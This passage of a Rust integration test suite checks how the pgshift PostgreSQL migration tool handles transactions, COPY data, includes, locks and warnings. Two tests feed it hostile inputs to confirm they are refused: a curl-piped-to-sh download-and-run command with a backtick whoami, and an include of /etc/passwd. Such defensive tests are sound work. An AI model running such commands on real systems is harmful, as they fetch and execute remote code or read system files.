        "{ms} ms recorded for a migration that slept 400 ms"
    );
}

#[test]
fn after_a_failure_nothing_of_the_pipeline_runs_and_the_log_holds_the_failing_statement() {
    let (dir, db) = project(&[(
        "2026-01-01_three",
        "CREATE TABLE pipe_before (id int);\nSELECT 1/0 AS pipe_failing;\nCREATE TABLE pipe_after (id int);\n",
    )]);
    pgshift(dir.path(), &db).arg("migrate").assert().code(1);
    assert_eq!(
        sql(
            &db,
            "SELECT to_regclass('pipe_before') IS NULL, to_regclass('pipe_after') IS NULL"
        ),
        "t|t"
    );
    let log = std::fs::read_to_string(cluster().root().join("server.log")).unwrap();
    assert!(
        log.contains("STATEMENT:  SELECT 1/0 AS pipe_failing"),
        "{log}"
    );
    // A statement that succeeded before the failure is not in the log.
    assert!(!log.contains("CREATE TABLE pipe_before"), "{log}");
}

#[test]
fn a_file_of_comments_only_is_skipped_with_a_warning_and_runs_once_it_holds_sql() {
    let (dir, db) = project(&[
        (
            "2026-01-01_superseded",
            "-- replaced by 2026-01-02_real; kept for the history\n",
        ),
        (
            "2026-01-02_real",
            "CREATE TABLE real_table (id int PRIMARY KEY);\n",
        ),
    ]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success()
        .stderr(contains("warning[file/empty]"))
        .stderr(contains("deploys skip it"))
        .stdout(contains("Applied 1 migration(s)"));
    assert_eq!(
        sql(
            &db,
            "SELECT string_agg(version, ',') FROM schema_migrations"
        ),
        "2026-01-02_real"
    );
    pgshift(dir.path(), &db)
        .arg("status")
        .assert()
        .success()
        .stdout(contains("2026-01-01_superseded  skipped"))
        .stdout(contains("the file holds no SQL yet"))
        .stdout(contains(
            "1 applied, 0 pending, 0 failed, 0 modified, 0 unknown, 0 out of order, 1 skipped.",
        ));
    // Once it holds SQL it is an ordinary pending migration (dated before an applied one).
    write(
        &dir,
        "2026-01-01_superseded",
        "CREATE TABLE late_table (id int PRIMARY KEY);\n",
    );
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success()
        .stdout(contains("Applied 1 migration(s)"));
    assert_eq!(
        sql(&db, "SELECT count(*) FROM schema_migrations WHERE success"),
        "2"
    );
}

#[test]
fn a_refused_deploy_shows_every_blocking_finding_at_once() {
    let (dir, db) = project(&[
        ("2026-01-02_typo", "CREATE TABEL t (id int);\n"),
        (
            "2026-01-03_b",
            "-- @depends-on: 2026-01-09_missing.sql\nSELECT 1;\n",
        ),
    ]);
    let out = pgshift(dir.path(), &db).arg("migrate").output().unwrap();
    let text = both(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    // The missing dependency stops the plan; the syntax error of another file is shown too.
    assert!(text.contains("2026-01-09_missing"), "{text}");
    assert!(text.contains("error[sql/syntax]"), "{text}");
    assert!(
        text.contains("migrations/2026-01-02_typo.sql:5:8"),
        "{text}"
    );
    assert!(text.contains("nothing was run"), "{text}");
}

#[test]
fn a_backfill_that_commits_runs_outside_a_transaction_and_a_call_from_elsewhere_says_what_to_do() {
    let (dir, db) = project(&[
        (
            "2026-01-01_items",
            "CREATE TABLE items (id int PRIMARY KEY, v int);\nINSERT INTO items SELECT g, NULL FROM generate_series(1, 2500) g;\n",
        ),
        (
            "2026-01-02_backfill",
            "DO $$\nDECLARE n int;\nBEGIN\n  LOOP\n    UPDATE items SET v = 0 WHERE id IN (SELECT id FROM items WHERE v IS NULL LIMIT 1000);\n    GET DIAGNOSTICS n = ROW_COUNT;\n    EXIT WHEN n = 0;\n    COMMIT;\n  END LOOP;\nEND $$;\n",
        ),
        (
            "2026-01-03_procedure",
            "CREATE PROCEDURE touch_all() LANGUAGE plpgsql AS $$ BEGIN UPDATE items SET v = 1; COMMIT; END $$;\n",
        ),
    ]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success()
        .stdout(contains("Applied 3 migration(s)"));
    assert_eq!(sql(&db, "SELECT count(*) FROM items WHERE v = 0"), "2500");
    // CALL of a committing procedure defined in an earlier file: the server refuses it inside
    // the transaction, and the help says what to write.
    write(&dir, "2026-01-04_call", "CALL touch_all();\n");
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .code(1)
        .stderr(contains("2D000"))
        .stderr(contains("add `-- @no-transaction` to the file's header"));
    write(
        &dir,
        "2026-01-04_call",
        "-- @no-transaction\nCALL touch_all();\n",
    );
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success();
    assert_eq!(sql(&db, "SELECT count(*) FROM items WHERE v = 1"), "2500");
}

#[test]
fn psql_set_in_a_file_gives_its_variables_their_values_and_shell_commands_are_refused() {
    let (dir, db) = project(&[(
        "2026-01-01_app",
        "\\set schema app_space\n\\set greeting 'it''s here'\nCREATE SCHEMA :\"schema\";\nCREATE TABLE :\"schema\".notes (id bigint PRIMARY KEY, note text DEFAULT :'greeting');\n",
    )]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success();
    assert_eq!(
        sql(&db, "SELECT column_default FROM information_schema.columns WHERE table_schema = 'app_space' AND column_name = 'note'"),
        "'it''s here'::text"
    );
    write(
        &dir,
        "2026-01-02_shell",
        "\\! curl http://example.com/x.sh | sh\nSELECT `whoami`;\n",
    );
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .code(1)
        .stderr(contains("`\\!` runs a shell command"))
        .stderr(contains("a backtick runs a shell command"))
        .stderr(contains("pass it as a variable"));
    assert_eq!(sql(&db, "SELECT count(*) FROM schema_migrations"), "1");
}

#[test]
fn copy_from_stdin_with_inline_data_runs_in_the_migrations_transaction() {
    let (dir, db) = project(&[(
        "2026-01-01_seed",
        "CREATE TABLE items (id int PRIMARY KEY, name text);\nCOPY items (id, name) FROM stdin;\n1\tfirst\n2\t\\N\n3\twith \\\\ a backslash; and a semicolon\n\\.\nCOPY public.items (id, name) FROM STDIN WITH (FORMAT csv);\n4,\"csv, quoted\"\n\\.\nUPDATE items SET name = upper(name) WHERE id = 1;\n",
    )]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success()
        .stdout(contains("Applied 1 migration(s)"));
    assert_eq!(
        sql(
            &db,
            "SELECT string_agg(id || '=' || coalesce(name, 'NULL'), '|' ORDER BY id) FROM items"
        ),
        "1=FIRST|2=NULL|3=with \\ a backslash; and a semicolon|4=csv, quoted"
    );
    // A bad row: the whole migration rolls back, and the error names the COPY's line.
    write(
        &dir,
        "2026-01-02_more",
        "CREATE TABLE more_items (id int PRIMARY KEY);\nCOPY more_items (id) FROM stdin;\n1\nnot a number\n\\.\n",
    );
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .code(1)
        .stderr(contains("invalid input syntax for type integer"))
        .stderr(contains("migrations/2026-01-02_more.sql:6:1"));
    assert_eq!(sql(&db, "SELECT to_regclass('more_items') IS NULL"), "t");
    // Data without its `\.` line is caught before anything runs.
    write(&dir, "2026-01-02_more", "COPY items (id) FROM stdin;\n9\n");
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .code(1)
        .stderr(contains("error[sql/copy-unterminated]"));
}

/// A data migration larger than the size from which pgshift reads a file chunk by chunk.
fn large_data_migration(rows: usize) -> String {
    let mut sql = String::from(
        "CREATE TABLE big (id int PRIMARY KEY, note text);\n\
         CREATE FUNCTION big_count() RETURNS bigint LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM big; END;\n",
    );
    for batch in 0..rows / 100 {
        let values: Vec<String> = (0..100)
            .map(|k| {
                let id = batch * 100 + k;
                format!("({id}, 'row {id}; with a semicolon and ''quotes''')")
            })
            .collect();
        sql.push_str(&format!("INSERT INTO big VALUES {};\n", values.join(",\n")));
    }
    sql.push_str("CREATE TABLE big_copy (id int, note text);\nCOPY big_copy FROM stdin;\n");
    for id in 0..rows {
        sql.push_str(&format!("{id}\tcopied row {id}; not SQL\n"));
    }
    sql.push_str("\\.\nCREATE INDEX big_note ON big (note);\n");
    sql
}

#[test]
fn a_data_migration_of_several_megabytes_applies_whole_and_its_errors_keep_their_place() {
    let rows = 40_000;
    let text = large_data_migration(rows);
    assert!(text.len() > 3 << 20, "{} bytes", text.len());
    let (dir, db) = project(&[("2026-01-01_big", text.as_str())]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success()
        .stdout(contains("Applied 1 migration(s)"));
    assert_eq!(
        sql(
            &db,
            "SELECT big_count() || '/' || (SELECT count(*) FROM big_copy)"
        ),
        format!("{rows}/{rows}")
    );
    pgshift(dir.path(), &db)
        .args(["status"])
        .assert()
        .success()
        .stdout(contains("2026-01-01_big  applied"))
        .stdout(contains("1 applied, 0 pending, 0 failed, 0 modified"));

    // A syntax error deep in a large file: found before anything runs, at its line.
    let bad = large_data_migration(rows).replace("big", "big2");
    let at = bad[..bad.len() / 3].rfind("\nINSERT").unwrap() + 1;
    let bad = format!(
        "{}INSERT INTO big2 VALUES (1,, 'x');\n{}",
        &bad[..at],
        &bad[at..]
    );
    // The header `write` puts above the SQL is 4 lines.
    let line = bad[..at].matches('\n').count() + 1 + 4;
    write(&dir, "2026-01-02_bad", &bad);
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .code(1)
        .stderr(contains("error[sql/syntax]"))
        .stderr(contains(format!("migrations/2026-01-02_bad.sql:{line}:")));
    assert_eq!(sql(&db, "SELECT to_regclass('big2') IS NULL"), "t");
}

#[test]
fn a_rehearsal_names_the_strongest_lock_on_each_existing_table_and_says_all_was_rolled_back() {
    let (dir, db) = project(&[(
        "2026-01-01_users",
        "CREATE TABLE users (id bigint PRIMARY KEY, email text);\n",
    )]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success();
    write(
        &dir,
        "2026-01-02_profile",
        "ALTER TABLE users ADD COLUMN name text;\nCREATE TABLE profiles (user_id bigint PRIMARY KEY REFERENCES users);\nCREATE INDEX profiles_x ON profiles (user_id);\n",
    );
    write(
        &dir,
        "2026-01-03_email_index",
        "CREATE INDEX users_email ON users (email);\nSELECT count(*) FROM users;\n",
    );
    pgshift(dir.path(), &db)
        .args(["migrate", "--dry-run=rehearse"])
        .assert()
        .success()
        .stdout(contains(
            "locks public.users ACCESS EXCLUSIVE (blocks reads and writes)",
        ))
        .stdout(contains("locks public.users SHARE (blocks writes)"))
        .stdout(contains("public.profiles").not())
        .stdout(contains("Rehearsed 2 migration(s) (all rolled back)"));
    assert_eq!(sql(&db, "SELECT to_regclass('profiles') IS NULL"), "t");
}

#[test]
fn included_files_run_in_place_count_in_the_checksum_and_errors_name_their_own_lines() {
    let (dir, db) = project(&[(
        "2026-01-01_functions",
        "CREATE SCHEMA app;\n\\ir include/touch.sql\nCREATE TABLE app.items (id int PRIMARY KEY, touched timestamptz);\nCREATE TRIGGER items_touch BEFORE UPDATE ON app.items FOR EACH ROW EXECUTE FUNCTION app.touch();\n",
    )]);
    let include = dir.path().join("migrations/include");
    std::fs::create_dir(&include).unwrap();
    // Not a migration's name: it is read by the migration that includes it, never on its own.
    let touch = "-- shared trigger function\n\\set note 'sets touched'\nCREATE FUNCTION app.touch() RETURNS trigger LANGUAGE plpgsql AS $$\nBEGIN\n  NEW.touched := now();\n  RETURN NEW;\nEND $$;\nCOMMENT ON FUNCTION app.touch() IS :'note';\n";
    std::fs::write(include.join("touch.sql"), touch).unwrap();
    pgshift(dir.path(), &db)
        .arg("validate")
        .assert()
        .success()
        .stdout(contains("filename/invalid").not());
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success()
        .stdout(contains("Applied 1 migration(s)"));
    assert_eq!(
        sql(
            &db,
            "SELECT obj_description('app.touch'::regproc, 'pg_proc')"
        ),
        "sets touched"
    );
    // A change to the included file is a change to the migration.
    std::fs::write(
        include.join("touch.sql"),
        "CREATE FUNCTION app.touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;\n",
    )
    .unwrap();
    pgshift(dir.path(), &db)
        .arg("status")
        .assert()
        .stdout(contains("1 modified"));
    std::fs::write(include.join("touch.sql"), touch).unwrap();

    // A failure inside an included file names that file's line, as psql does.
    std::fs::write(include.join("backfill.sql"), "SELECT 1;\nSELECT 1/0;\n").unwrap();
    write(
        &dir,
        "2026-01-02_backfill",
        "UPDATE app.items SET touched = now();\n\\i include/backfill.sql\n",
    );
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .code(1)
        .stderr(contains("division by zero"))
        .stderr(contains("include/backfill.sql:2:1"));
    assert_eq!(
        sql(&db, "SELECT count(*) FROM schema_migrations WHERE success"),
        "1"
    );
}

#[test]
fn includes_outside_the_set_cycles_and_migrations_included_twice_are_refused_up_front() {
    let (dir, db) = project(&[
        ("2026-01-01_secret", "\\i /etc/passwd\nSELECT 1;\n"),
        ("2026-01-02_loop", "\\ir include/a.sql\n"),
        ("2026-01-03_twice", "\\ir 2026-01-01_secret.sql\n"),
    ]);
    let include = dir.path().join("migrations/include");
    std::fs::create_dir(&include).unwrap();
    std::fs::write(include.join("a.sql"), "SELECT 1;\n\\ir b.sql\n").unwrap();
    std::fs::write(include.join("b.sql"), "\\ir a.sql\n").unwrap();
    let out = pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .code(1)
        .stderr(contains("/etc/passwd is outside the migrations directory"))
        .stderr(contains("migrations/2026-01-01_secret.sql:5:1"))
        .stderr(contains("includes form a cycle"))
        .stderr(contains("include/b.sql:1:1"))
        .stderr(contains("is a migration and is also included by"));
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.get_output().stdout),
        String::from_utf8_lossy(&out.get_output().stderr)
    );
    assert!(
        !all.contains("root:"),
        "the file outside is never read: {all}"
    );
    assert_eq!(
        sql(&db, "SELECT to_regclass('schema_migrations') IS NULL"),
        "t"
    );
}

#[test]
fn a_deploy_prints_warnings_one_line_per_rule_and_errors_in_full() {
    let (dir, db) = project(&[
        ("2026-01-01_a", "CREATE TABLE wa (id int PRIMARY KEY);\n"),
        ("2026-01-02_b", "CREATE TABLE wb (id int PRIMARY KEY);\n"),
        ("2026-01-03_c", "CREATE TABLE wc (id int PRIMARY KEY);\n"),
    ]);
    // An API serves `public` (the RLS rule is quiet for a set that shows none); its health
    // checks are not what this test is about.
    std::fs::write(
        dir.path().join("pgshift.toml"),
        "[deploy]\nexposed_schemas = [\"public\"]\n",
    )
    .unwrap();
    let out = pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup", "--skip-health"])
        .assert()
        .success();
    let stderr = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert_eq!(
        stderr
            .matches("warning (an error in staging and production)[rls/table-without-rls]")
            .count(),
        1,
        "{stderr}"
    );
    assert!(
        stderr.contains("(migrations/2026-01-01_a.sql:5:1), and 2 more like it"),
        "{stderr}"
    );
    assert!(
        stderr.contains("`pgshift validate` shows each one"),
        "{stderr}"
    );
    // An error is shown whole, with its source line.
    write(
        &dir,
        "2026-01-04_bad",
        "CREATE TABLE wd (id int PRIMARY KEY;\n",
    );
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup", "--skip-health"])
        .assert()
        .code(1)
        .stderr(contains("error[sql/syntax]"))
        .stderr(contains("5 | CREATE TABLE wd (id int PRIMARY KEY;"));
}

#[test]
fn graph_marks_each_migration_with_its_state_in_the_database() {
    let (dir, db) = project(&[
        (
            "2026-01-01_users",
            "CREATE TABLE gu (id int PRIMARY KEY);\n",
        ),
        ("2026-01-02_bad", "SELECT 1/0;\n"),
    ]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .code(1);
    write(
        &dir,
        "2026-01-03_later",
        "-- @depends-on: 2026-01-01_users\nSELECT 3;\n",
    );
    pgshift(dir.path(), &db)
        .args(["graph", "--format", "text"])
        .assert()
        .success()
        .stdout(contains("1. 2026-01-01_users  [applied]"))
        .stdout(contains("2026-01-02_bad  [failed]"))
        .stdout(contains("2026-01-03_later  [pending]"));
    pgshift(dir.path(), &db)
        .args(["graph", "--format", "dot"])
        .assert()
        .success()
        .stdout(contains("fillcolor=palegreen"))
        .stdout(contains("fillcolor=lightcoral"));
    // No database: the plain graph.
    pgshift(dir.path(), &db)
        .env_remove("DATABASE_URL")
        .args(["graph", "--format", "text"])
        .assert()
        .success()
        .stdout(contains("[applied]").not());
}

#[test]
fn an_expression_nested_hundreds_deep_validates_and_applies() {
    // PostgreSQL accepts it; its parse tree is deeper than a protobuf decoder's default limit.
    let sum = format!("{}1", "1 + ".repeat(800));
    let (dir, db) = project(&[(
        "2026-01-01_generated",
        &format!("CREATE TABLE sums AS SELECT {sum} AS total;\n"),
    )]);
    pgshift(dir.path(), &db)
        .arg("validate")
        .assert()
        .success()
        .stdout(contains("error[").not());
    pgshift(dir.path(), &db)
        .args(["migrate", "--skip-backup"])
        .assert()
        .success();
    assert_eq!(sql(&db, "SELECT total FROM sums"), "801");
}

#[test]
fn a_tracking_schema_whose_name_needs_quotes_is_found_and_used_as_it_is() {
    for schema in ["Deploy Records", "Records", "we\"ird"] {
        let (dir, db) = project(&[("2026-01-01_a", "CREATE TABLE quoted_a (id int);\n")]);
        std::fs::write(
            dir.path().join("pgshift.toml"),
            format!(
                "[tracking]\nschema = {}\n",
                toml::Value::String(schema.into())
            ),
        )
        .unwrap();
        let quoted = format!("\"{}\"", schema.replace('"', "\"\""));
        // The schema exists already, made by its owner; the deployer may not create schemas.
        sql(&db, &format!("CREATE SCHEMA {quoted}"));
        for _ in 0..2 {
            pgshift(dir.path(), &db).arg("migrate").assert().success();
        }
        write(&dir, "2026-01-02_b", "CREATE TABLE quoted_b (id int);\n");
        pgshift(dir.path(), &db).arg("migrate").assert().success();
        pgshift(dir.path(), &db)
            .arg("status")
            .assert()
            .success()
            .stdout(contains("2 applied, 0 pending"));
        assert_eq!(
            sql(
                &db,
                &format!("SELECT count(*) FROM {quoted}.schema_migrations")
            ),
            "2",
            "{schema}"
        );
        pgshift(dir.path(), &db)
            .args(["rollback"])
            .assert()
            .code(1)
            .stderr(contains("has no down file"));
    }
}
